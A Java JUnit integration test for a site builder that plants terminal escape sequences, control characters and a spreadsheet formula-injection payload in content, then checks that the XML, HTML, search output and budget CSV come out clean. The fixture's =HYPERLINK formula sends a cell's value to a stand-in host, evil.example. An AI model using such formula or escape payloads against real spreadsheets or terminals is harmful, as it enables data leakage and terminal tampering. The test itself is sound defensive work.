package org.seisaku.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The output layers of issue 9 on a real build whose content carries control characters, terminal escapes and
 * spreadsheet formulas in titles, names, Markdown and review-sheet text: feed.xml and sitemap.xml stay well-formed
 * XML (failure 1), no page holds a control character, {@code search} prints none of them to the terminal (failure
 * 2), and data/budget.csv starts no cell with what a spreadsheet evaluates (failure 10). Each would have failed on
 * 0.1.
 */
class OutputEncodingIT {
  @TempDir static Path tmp;
  static Path content;
  static Path site;
  static Path index;
  static Fixtures.Run build;

  static final String ESCAPES = "\u001B[2J\u001B]0;pwned\u0007";
  static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"制御事業\")";

  @BeforeAll
  static void buildPlanted() throws IOException {
    content = Fixtures.copy("content", tmp.resolve("content"));
    Fixtures.copy("judgit", tmp.resolve("judgit"));
    edit(content.resolve("site.yml"), "sources: []", "sources: [judgit:../judgit]");
    Files.writeString(content.resolve("documents/seigyo.md"), "---\ntitle: \"制御\\x01文書\\e[2J\"\nfiscal_year: 2012\ndate: 2012-04-01\n---\n"
        + "本文に制御文字\u0001と端末の命令" + ESCAPES + "と\u0085を含む文書。\n", StandardCharsets.UTF_8);
    Path csv = content.resolve("budget/2012.csv");
    Files.writeString(csv, Files.readString(csv, StandardCharsets.UTF_8) + "2012,総務省,\"" + FORMULA.replace("\"", "\"\"")
        + "\",当初,1億円,,,\n2012,総務省," + ESCAPES + "端末事業,当初,2億円,,,\"=1+1\"\n", StandardCharsets.UTF_8);
    Path sheet = tmp.resolve("judgit/data/2023/総務省/2023-総務-22-0015.json");
    edit(sheet, "\"事業目的\": \"", "\"事業目的\": \"\\u001b[2J\\u001b]0;pwned\\u0007\\u0001");
    edit(sheet, "\"事業名\": \"", "\"事業名\": \"\\u001b]0;title\\u0007");
    site = tmp.resolve("out/site");
    index = tmp.resolve("out/index");
    build = Fixtures.run("build", "--content", content.toString(), "--out", site.toString(), "--index", index.toString(), "-q");
  }

  static void edit(Path file, String from, String to) throws IOException {
    String text = Files.readString(file, StandardCharsets.UTF_8);
    assertTrue(text.contains(from), file + " has " + from);
    Files.writeString(file, text.replace(from, to), StandardCharsets.UTF_8);
  }

  @Test
  void buildsWithAWarningForEachValueCleaned() {
    assertEquals(0, build.exit(), build.err());
    assertTrue(build.err().contains("documents/seigyo.md:2: warning: 'title': control characters U+0001, U+001B removed"), build.err());
    assertTrue(build.err().contains("warning: 事業名: control characters U+001B, U+0007 removed"), build.err());
    assertTrue(build.err().contains("documents/seigyo.md:6: warning: text: control characters U+0001, U+001B, U+0007, U+0085 removed"), build.err());
    assertTrue(build.err().contains("budget/2012.csv:") && build.err().contains("program: control characters U+001B, U+0007 removed"), build.err());
  }

  @Test
  void feedAndSitemapAreWellFormedXml() throws Exception {
    var factory = DocumentBuilderFactory.newInstance();
    factory.setNamespaceAware(true);
    for (String f : List.of("feed.xml", "sitemap.xml")) {
      var builder = factory.newDocumentBuilder();
      builder.setErrorHandler(null);
      builder.parse(site.resolve(f).toFile()); // throws on an ill-formed document
    }
    String feed = Fixtures.read(site.resolve("feed.xml"));
    assertTrue(feed.contains("制御文書[2J"), "the title, without its control characters");
  }

  @Test
  void noPageOrDataFileHoldsAControlCharacter() throws IOException {
    List<String> found = new ArrayList<>();
    try (Stream<Path> s = Files.walk(site)) {
      for (Path p : (Iterable<Path>) s::iterator) {
        String name = p.toString();
        if (!(name.endsWith(".html") || name.endsWith(".xml") || name.endsWith(".json") || name.endsWith(".csv"))) continue;
        String text = Fixtures.read(p);
        for (int i = 0; i < text.length(); i++) {
          char c = text.charAt(i);
          if (c < 0x20 && c != '\t' && c != '\n' && c != '\r' || c >= 0x7F && c <= 0x9F) {
            found.add(site.relativize(p) + " at " + i + ": U+" + Integer.toHexString(c));
            break;
          }
        }
      }
    }
    assertEquals(List.of(), found);
  }

  @Test
  void searchPrintsNoEscapeSequence() {
    for (String q : List.of("端末事業", "制御", "地域経済循環創造事業交付金", "pwned", "事業")) {
      Fixtures.Run r = Fixtures.run("search", q, "--index", index.toString(), "--limit", "50");
      assertEquals(0, r.exit(), q + ": " + r.err());
      String all = r.out() + r.err();
      for (int i = 0; i < all.length(); i++) {
        char c = all.charAt(i);
        assertFalse(c < 0x20 && c != '\n' || c >= 0x7F && c <= 0x9F, q + ": U+" + Integer.toHexString(c) + " in " + all);
      }
    }
  }

  @Test
  void noCsvCellIsAFormula() throws IOException {
    String budget = Fixtures.read(site.resolve("data/budget.csv"));
    assertTrue(budget.contains("\"'=HYPERLINK("), "the formula is written as text: " + budget);
    for (String line : budget.split("\n")) {
      for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1)) {
        String v = cell.startsWith("\"") ? cell.substring(1) : cell;
        if (v.startsWith("\uFEFF")) v = v.substring(1);
        assertFalse(!v.isEmpty() && "=+@\t\r＝＋－＠".indexOf(v.charAt(0)) >= 0, "a spreadsheet would evaluate " + cell + " in " + line);
        assertFalse(v.startsWith("-") && !v.matches("-\\d+"), "only numbers begin with '-': " + cell);
      }
    }
  }
}
